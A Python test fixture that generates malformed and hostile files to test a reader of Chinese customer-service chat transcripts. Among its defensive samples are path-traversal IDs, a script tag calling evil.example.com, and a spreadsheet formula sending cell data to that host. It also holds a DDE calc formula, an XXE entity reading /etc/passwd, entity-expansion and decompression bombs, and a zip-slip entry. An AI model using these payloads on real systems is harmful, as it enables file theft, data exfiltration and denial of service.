"""A folder as a trainer may really have it: broken, hostile and odd files, and what has to come of each."""

import json
import os
import random
import struct
import sys
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from layouts import gzipped, sheet, workbook, zipped

from cs_eval.reading.limits import ReadLimits

LIMITS = ReadLimits(turns=60, turn_chars=3_000, file_mb=1)
"""What these files go beyond, so that they can be small."""


@dataclass(frozen=True)
class Broken:
    """One file: `outcomes` are `read ID`, `KIND ROW`, `repeated ROW` or `left out`, in the file's order.

    `says` is a part of what has to be said about it: what is wrong, or what helps.
    """

    name: str
    content: bytes
    outcomes: tuple[str, ...]
    says: str = ""


def turn(role: str, text: Any, at: Any = None) -> dict[str, Any]:
    return {"role": role, "text": text, **({"at": at} if at is not None else {})}


SOUND = [
    turn("customer", "窗帘到了 尺寸不对", "2026-03-01T10:00:03"),
    turn("agent", "您好，量一下是宽差还是高差呢？", "2026-03-01T10:00:08"),
    turn("customer", "短了一截", "2026-03-01T10:00:40"),
    turn("agent", "抱歉让您白等了，我给您重做一副，运费我们出😊", "2026-03-01T10:01:15"),
]
COPIED = """\
小鹿_88 2026-03-01 10:00:05
这款窗帘有样布吗
布谷家居:小楠 2026-03-01 10:00:11
您好，有的亲，样布3块一张，拍下当天寄
小鹿_88 2026-03-01 10:00:50
来两张 灰的和米的
布谷家居:小楠 2026-03-01 10:01:02
好嘞，帮您备注上啦~
"""
HEADINGS = ["会话ID", "发送时间", "发送者", "角色", "消息类型", "内容"]


def chat(id: Any, turns: Any = None, **keys: Any) -> dict[str, Any]:
    return {"id": id, **keys, "turns": SOUND if turns is None else turns}


def lines(*chats: Any) -> bytes:
    return "".join(json.dumps(each, ensure_ascii=False) + "\n" for each in chats).encode()


def reads(*ids: str) -> tuple[str, ...]:
    return tuple(f"read {id}" for id in ids)


UNREADABLE, EMPTY, LEFT_OUT = ("unreadable_file",), ("empty_file",), ("left out",)


def _nothing_in_them() -> Iterator[Broken]:
    yield Broken("空.jsonl", b"", EMPTY, "文件是空的")
    yield Broken("只有空行.jsonl", b"\n\n  \n\t\n\r\n\n", EMPTY)
    yield Broken("只有BOM.csv", b"\xef\xbb\xbf", EMPTY)
    yield Broken("只有表头.csv", ",".join(HEADINGS).encode() + b"\r\n", EMPTY)
    essay = "新人周总结\n\n这周学了售后流程。\n师父说：先安抚，再问情况。\n\n下周目标：\n1. 十秒内回复\n"
    yield Broken("周总结.txt", essay.encode(), UNREADABLE, "看不懂")


def _badly_written() -> Iterator[Broken]:
    yield Broken("乱码.txt", COPIED.encode().decode("gb18030", "replace").encode(), UNREADABLE, "乱码")
    lost = COPIED.encode("gb18030").decode("utf-8", "replace").encode().decode("gb18030", "replace")
    yield Broken("锟斤拷.txt", lost.encode(), UNREADABLE, "找不回来")
    misread = [turn(each["role"], each["text"].encode().decode("latin-1")) for each in SOUND]
    yield Broken("乱码.jsonl", lines(chat("misread", misread)), ("bad_row 1",), "乱码")
    asked = [["q1", "2026-03-01 10:00:05", "u", who, "文本", "?" * 12] for who in ("买家", "客服", "买家")]
    table = "\n".join(map(",".join, [HEADINGS, *asked]))
    yield Broken("全是问号.csv", table.encode(), ("bad_row 2",), "问号")
    yield Broken("真GBK.txt", COPIED.encode("gb18030"), ("read",))
    wide = COPIED.replace("窗帘", "桌布").encode("utf-16-le")
    yield Broken("没有标记的UTF16.txt", wide, UNREADABLE, "UTF-8")
    yield Broken("半边坏了.txt", _half_damaged(COPIED.encode() * 3), UNREADABLE, "UTF-8")


def _half_damaged(text: bytes) -> bytes:
    chance = random.Random(20260301)
    half = len(text) // 2
    return text[:half] + bytes(
        chance.randrange(256) if chance.random() < 0.35 else byte for byte in text[half:]
    )


def _json_that_is_none() -> Iterator[Broken]:
    array = json.dumps([chat(f"array-{n}") for n in range(4)], ensure_ascii=False, indent=1)
    cut = array[: array.rindex("短了一截")].encode()
    kept = reads("array-0", "array-1", "array-2")
    yield Broken("截断.json", cut, (*kept, "bad_row 77"))
    torn = lines(chat("torn-1"), chat("torn-2"))[:-30]
    yield Broken("末行截断.jsonl", torn, ("read torn-1", "bad_row 2"))
    deep = b"[" * 5_000 + b"]" * 5_000
    yield Broken("五千层.json", deep, ("bad_row 1",))
    deep_row = b'{"id":"deep","turns":' + deep + b"}\n" + lines(chat("after-deep"))
    yield Broken("五千层.jsonl", deep_row, ("bad_row 1", "read after-deep"))
    package = {"name": "tools", "version": "1.0", "scripts": {"build": "vite"}}
    yield Broken("不是对话.json", json.dumps(package, indent=2).encode(), ("no_turns 1",))
    twice = b'{"id":"keys","turns":[{"role":"agent","text":"a"}],"turns":[{"role":"customer","text":"b"}]}\n'
    yield Broken("一行重复键.jsonl", twice, ("bad_row 1",), "写了两次")


def _values_that_are_none() -> Iterator[Broken]:
    texts = (1, None, ["您好"])
    spoilt = [
        chat(f"value-{n}", [turn("customer", "在"), turn("agent", text)]) for n, text in enumerate(texts)
    ]
    rows = lines(*spoilt, {"id": "none", "turns": None}, {"id": "text", "turns": "客户：在"})
    rows += lines(chat(3801234567890123999), None, 42, "您好", [], {"id": "null", "turns": [None]})
    rows += b'{"id":"nan","turns":[{"role":"agent","text":NaN}]}\n'
    failed = ("bad_row 2", "bad_row 3", "no_turns 4", "bad_row 5")
    after = tuple(f"bad_row {n}" for n in range(7, 13))
    yield Broken(
        "数字和null.jsonl", rows, ("read value-0", *failed, "read 3801234567890123999", *after), "第 2 句"
    )
    copies = lines(chat("twin"), chat("twin"), chat("twin", SOUND[:2]))
    yield Broken("编号重复.jsonl", copies, ("read twin", "repeated 2", "duplicate_id 3"), "编号")
    one_sided = lines(
        chat("customer-only", [turn("customer", "在吗"), turn("customer", "？？")]),
        chat("agent-only", [turn("agent", "亲，您的快递今天派送~")]),
        chat("bot-only", [turn("bot", "欢迎光临"), turn("customer", "人呢")]),
    )
    yield Broken(
        "一边说话.jsonl", one_sided, ("no_agent_turn 1", "read agent-only", "no_agent_turn 3"), "客服"
    )


def _hostile_words() -> Iterator[Broken]:
    ids = ["../../etc/passwd", "C:\\x", "CON", "..", "/", "a/b", "-rf", "=1+1", "<b>x</b>", "%2e%2e%2f", "😀"]
    yield Broken("编号像路径.jsonl", lines(*map(chat, ids)), reads(*ids))
    acts = [
        turn("customer", "在\x00吗\x07\x1b[31m红字\x1b[0m"),
        turn("agent", "在的\x0b亲\x08\x7f\x85请讲\u2028谢谢"),
    ]
    yield Broken("控制字符.jsonl", lines(chat("controls", acts)), reads("controls"))
    half = b'{"id":"half","turns":[{"role":"agent","text":"\\u592a\\u597d\\ude0a \\ud83d\\ude0a"}]}\n'
    yield Broken("半个表情.jsonl", half, ("bad_row 1",), "UTF-8")
    hidden = [
        turn("\u200bcustomer", "能\u200b加微\u200d信吗"),
        turn("ag\u200bent", "咱们在平台上聊就好\u202e哦的全安更\u202c"),
    ]
    turned = [turn("customer", "在"), turn("\u202etnega", "在的")]
    other_a = [turn("customer", "在"), turn("\u0430gent", "在的")]
    marks = lines(chat("hidden", hidden), chat("turned", turned), chat("cyrillic", other_a))
    yield Broken("看不见的字.jsonl", marks, ("read hidden", "unknown_role 2", "unknown_role 3"), "角色")
    page = [
        turn("customer", "</td></table><script>fetch('//evil.example.com')</script>"),
        turn("agent", '=HYPERLINK("http://evil.example.com/?x="&A1,"点我") {{7*7}} ${7*7} %s'),
    ]
    yield Broken("网页和公式.jsonl", lines(chat("page", page, trainee="=cmd|' /C calc'!A0")), reads("page"))


def _times_that_are_none() -> Iterator[Broken]:
    def at(*times: Any) -> list[dict[str, Any]]:
        return [{**each, "at": time} for each, time in zip(SOUND, times, strict=False)]

    first = [each["at"] for each in SOUND]
    backwards, far, early = first[::-1], ["9999-12-31T23:59:59"] * 2, ["0001-01-01T00:00:01+14:00"] * 2
    rows = lines(
        chat("backwards", at(*backwards)),
        chat("far", at(*far)),
        chat("early", at(*early)),
        chat("mixed", at("2026-03-01T10:00:03Z", first[1])),
        chat("february", at("2026-02-30T10:00:00", first[1])),
        chat("hours", at("2026-03-01T25:61:00", first[1])),
    )
    outcomes = (*reads("backwards", "far", "early", "mixed"), "bad_row 5", "bad_row 6")
    yield Broken("时间怪.jsonl", rows, outcomes, "时间不对")
    copied = "小鹿_88 2026-02-30 10:00:05\n能水洗不\n布谷家居:小楠 2026-02-30 25:61:11\n能的亲\n"
    yield Broken("没有的日子.txt", copied.encode(), ("bad_row 1",))


def _too_much() -> Iterator[Broken]:
    long = [
        turn("customer", "发我尺码表"),
        turn("agent", "亲，尺码和洗涤说明都在这里～" * (LIMITS.turn_chars // 10)),
    ]
    rows = lines(chat("long-turn", long), chat("beside-it"))
    yield Broken("一句太长.jsonl", rows, ("bad_row 1", "read beside-it"), "--max-chars")
    many = [turn(("customer", "agent")[n % 2], f"第{n}根线头") for n in range(LIMITS.turns + 1)]
    yield Broken("句子太多.jsonl", lines(chat("many", many)), ("bad_row 1",), "--max-turns")
    yield Broken(
        "编号十万字.jsonl", lines(chat("长" * 100_000), chat("after-id")), ("bad_row 1", "read after-id")
    )
    slow = [turn("customer", "1" * 1_000 + "(" * 1_000), turn("agent", "-" * 1_000 + "http://" + "a." * 900)]
    yield Broken("重复的括号.jsonl", lines(chat("slow", slow)), reads("slow"))
    blanks = b" " * (LIMITS.file_bytes + (1 << 20))
    yield Broken("炸弹.jsonl.gz", gzipped(blanks), ("bad_row 1",), "--max-mb")
    yield Broken("炸弹.xlsx", workbook(sheet([HEADINGS, ["x"] * 6]) + blanks), UNREADABLE, "--max-mb")


TOLD = [
    HEADINGS,
    ["x1", "2026-03-01 10:00:05", "u***1", "买家", "文本", "地毯掉毛吗"],
    ["x1", "2026-03-01 10:00:11", "小楠", "客服", "文本", "短绒的不掉"],
]


def _workbooks() -> Iterator[Broken]:
    rows = "".join(f"<tr>{''.join(f'<td>{cell}</td>' for cell in row)}</tr>" for row in TOLD)
    page = f"<html><body><table>{rows}</table></body></html>"
    yield Broken("其实是网页.xlsx", page.encode(), UNREADABLE, "另存为")
    yield Broken("其实是网页.xls", page.encode("gb18030"), UNREADABLE, "另存为")
    noise = random.Random(36).randbytes(2_000)
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    locked = compound + "EncryptedPackage".encode("utf-16-le") + noise
    yield Broken("有密码.xlsx", locked, UNREADABLE, "密码")
    yield Broken("老格式.xls", compound + noise, UNREADABLE, "另存为")
    yield Broken("垃圾.xlsx", b"PK\x03\x04" + noise, UNREADABLE)
    yield Broken("不是工作簿.xlsx", zipped({"readme.txt": "hello", "../../evil.txt": "x"}), UNREADABLE)
    declared = '<dimension ref="A1:XFD1048576"/>'
    stray = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>'
    wide = sheet(TOLD, declared).replace(b"</sheetData>", stray)
    yield Broken("范围超大.xlsx", workbook(wide), reads("x1"))
    unfolding = '<!DOCTYPE a [<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">' + "".join(
        f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(8)
    )
    yield Broken("实体膨胀.xlsx", workbook(_with_type(f"{unfolding}]>", "&i;")), UNREADABLE)
    outside = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    yield Broken("外部实体.xlsx", workbook(_with_type(outside, "&e;")), UNREADABLE)


def _with_type(declaration: str, text: str) -> bytes:
    """Return the sheet with a document type, and in place of a message what that declares."""
    return declaration.encode() + sheet(TOLD).replace("地毯掉毛吗".encode(), text.encode())


def _packed() -> Iterator[Broken]:
    sound = gzipped(lines(chat("gz-1"), chat("gz-2")))
    yield Broken("好的.jsonl.gz", sound, reads("gz-1", "gz-2"))
    cut = gzipped(lines(*(chat(f"cut-{n}", SOUND[:n]) for n in range(2, 5))))[:-20]
    yield Broken("截断.jsonl.gz", cut, ("unreadable_file", *reads("cut-2", "cut-3")), "重新")
    checked = gzipped(lines(chat("checked")))
    yield Broken("校验错.jsonl.gz", checked[:-8] + b"\x00" * 4 + checked[-4:], UNREADABLE, "重新")
    yield Broken("套两层.jsonl.gz", gzipped(gzipped(lines(chat("twice")))), reads("twice"))
    yield Broken("不是gz.jsonl.gz", lines(chat("plain")), reads("plain"))
    yield Broken("截断.parquet", b"PAR1" + random.Random(49).randbytes(300), UNREADABLE)
    tail = struct.pack("<I", 0x7FFFFFFF) + b"PAR1"
    yield Broken("尾巴坏.parquet", b"PAR1" + bytes(300) + tail, UNREADABLE)


def _no_transcripts() -> Iterator[Broken]:
    for name in (
        "~$周报.xlsx",
        ".DS_Store",
        "._对话.jsonl",
        "Thumbs.db",
        "desktop.ini",
        "对话.jsonl.crdownload",
    ):
        yield Broken(name, b"\x00\x05\x16\x07" * 40, LEFT_OUT)
    document = zipped({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
    yield Broken("话术手册.docx", document, LEFT_OUT)
    yield Broken("聊天截图.png", _picture(), LEFT_OUT)
    yield Broken("截图改名.txt", _picture(), UNREADABLE)


def _picture() -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", 40, 60, 8, 2, 0, 0, 0)
    rows = b"".join(b"\0" + b"\xff\xee\xdd" * 40 for _ in range(60))
    chunks = (chunk(b"IHDR", header), chunk(b"IDAT", zlib.compress(rows)), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _odd_names() -> Iterator[Broken]:
    names = ["😀开心的客户🎉", "a" + "长" * 80, " 前后空格 ", "-像参数", "[a-z]"]
    if sys.platform != "win32":
        names += ["换\n行", "\x1b[31mred", "[a-z]*?", "'引号\"&<b>"]
    for number, name in enumerate(names):
        yield Broken(f"{name}.jsonl", lines(chat(f"name-{number}")), reads(f"name-{number}"))
    if sys.platform == "linux":
        in_gb18030 = os.fsdecode("客服.jsonl".encode("gb18030"))
        yield Broken(in_gb18030, lines(chat("name-in-gb18030")), reads("name-in-gb18030"))
    yield Broken("大写.JSONL", lines(chat("upper-case")), reads("upper-case"))


FILES = tuple(
    each
    for sort in (
        _nothing_in_them,
        _badly_written,
        _json_that_is_none,
        _values_that_are_none,
        _hostile_words,
        _times_that_are_none,
        _too_much,
        _workbooks,
        _packed,
        _no_transcripts,
        _odd_names,
    )
    for each in sort()
)
"""The files that are what they are by their content and name."""


def make(folder: Path) -> list[Broken]:
    """Put all of them into `folder`, links and pipes among them; return what has to come of each."""
    for each in FILES:
        (folder / each.name).write_bytes(each.content)
    return [*FILES, *_places(folder)]


def _places(folder: Path) -> Iterator[Broken]:
    """Make what is no plain file of this folder."""
    outside = folder.with_name(f"{folder.name} 以外")
    outside.mkdir()
    (outside / "别人的.jsonl").write_bytes(lines(chat("outside")))
    if sys.platform != "win32":
        yield from _links_and_pipes(folder, outside)
    (folder / "像文件.jsonl").mkdir()
    (folder / "像文件.jsonl" / "里面.jsonl").write_bytes(lines(chat("inside")))
    yield Broken("像文件.jsonl/里面.jsonl", b"", reads("inside"))


def _links_and_pipes(folder: Path, outside: Path) -> Iterator[Broken]:
    links = {"链到外面.jsonl": outside / "别人的.jsonl", "断链.jsonl": "没有.jsonl", "绕回来": "."}
    for name, target in links.items():
        (folder / name).symlink_to(target)
        yield Broken(name, b"", LEFT_OUT)
    (folder / "环.jsonl").symlink_to("环.jsonl")
    yield Broken("环.jsonl", b"", LEFT_OUT)
    os.mkfifo(folder / "管道.jsonl")
    yield Broken("管道.jsonl", b"", LEFT_OUT)
